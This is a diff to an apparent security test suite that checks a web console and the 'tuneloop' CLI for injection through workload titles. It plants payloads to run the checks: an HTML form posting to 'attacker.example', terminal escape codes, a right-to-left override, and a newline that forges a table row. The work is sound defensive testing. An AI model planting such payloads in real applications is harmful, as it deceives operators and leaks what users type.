@@ -21,6 +21,7 @@ FORM = '<form action="//attacker.example"><input name=key></form>'
 PAGES = ("/", "/review", "/candidates")
 SEEN_SECONDS = 20.0
 MARKUP = re.compile(r'"innerHTML":"((?:[^"\\]|\\.)*)"')
+"""What a page's script is told to draw as markup, with its quotes still escaped."""
 CODES = {"the screen is cleared": "\x1b[2J", "the window's title is set": "\x1b]0;", "a C1 code": "\x9b2J"}
 TURNED = "\u202e"
 
@@ -29,8 +30,12 @@ TURNED = "\u202e"
 def a_title_becomes_a_form_of_the_console(target: Target) -> str:
     """A form that sends what a visitor types to somebody else, on the pages of everybody's console."""
     with planted(target, f"Desk {FORM}"):
-        drawn = [path for path in PAGES if any("<form" in one for one in _markup(target, path))]
-    return f"a form stands on {', '.join(drawn)}" if drawn else ""
+        pages = {path: html.unescape(_page(target, path)[1]) for path in PAGES}
+    markup = {path: MARKUP.findall(page) for path, page in pages.items()}
+    if not all(markup.values()) or not all("Desk" in page for page in pages.values()):
+        return "a page shows no markup, or not the title, so nothing is proved"
+    found = [path for path, drawn in markup.items() if any("<form" in one for one in drawn)]
+    return f"a form stands on {', '.join(found)}" if found else ""
 
 
 @attack
@@ -46,6 +51,8 @@ def a_title_obeys_its_author_on_an_operators_terminal(target: Target) -> str:
     """Codes that move the cursor, set the title, or turn the writing round, in what `tuneloop` prints."""
     with planted(target, "Desk " + "".join(CODES.values()) + TURNED):
         said = {form: _command_line(target, "workload", "list", *form) for form in ((), ("--json",))}
+    if not all("Desk" in one for one in said.values()):
+        return "no title is printed at all, so nothing is proved"
     found = [what for what, code in CODES.items() if any(code in one for one in said.values())]
     found += ["the writing is turned round"] if any(TURNED in one for one in said.values()) else []
     return "; ".join(found)
@@ -56,6 +63,8 @@ def a_title_makes_a_row_of_its_own(target: Target) -> str:
     """A table that says of another workload what its owner never said."""
     with planted(target, "Desk\nrefunds  Planted  9"):
         rows = _command_line(target, "workload", "list").splitlines()
+    if not any(row.startswith(NAME) for row in rows):
+        return "the workload has no row at all, so nothing is proved"
     return "a row was planted" if any(row.startswith("refunds") for row in rows) else ""
 
 
@@ -88,13 +97,12 @@ def planted(target: Target, title: str) -> Iterator[None]:
     """A workload with this title, which the console shows; retired at the end."""
     added = until_taken(lambda: asked("POST", f"{target.services}/workloads", json=_submission(title)))
     if added.status_code != 201:
-        if added.status_code == 422 and "title" in added.text:
-            yield  # refused by its form: there is nothing to see
-            return
         raise RuntimeError(f"the workload was not added: {added.status_code} {added.text[:300]}")
     try:
         until = time.monotonic() + SEEN_SECONDS
-        while time.monotonic() < until and not _shows(target):
+        while not _shows(target):
+            if time.monotonic() > until:
+                raise RuntimeError("the console never shows the workload, so there is nothing to see")
             time.sleep(0.2)  # another process: there is nothing to await
         yield
     finally:
@@ -116,11 +124,6 @@ def _submission(title: str, **more: str) -> dict[str, object]:
 def _page(target: Target, path: str) -> tuple[int, str]:
     answer = asked("GET", f"{target.services}{path}?workload={NAME}")
     return answer.status_code, answer.text
-
-
-def _markup(target: Target, path: str) -> list[str]:
-    """What the page's script is told to draw as markup, with its quotes still escaped."""
-    return MARKUP.findall(html.unescape(_page(target, path)[1]))
 
 
 def _command_line(target: Target, *words: str) -> str:
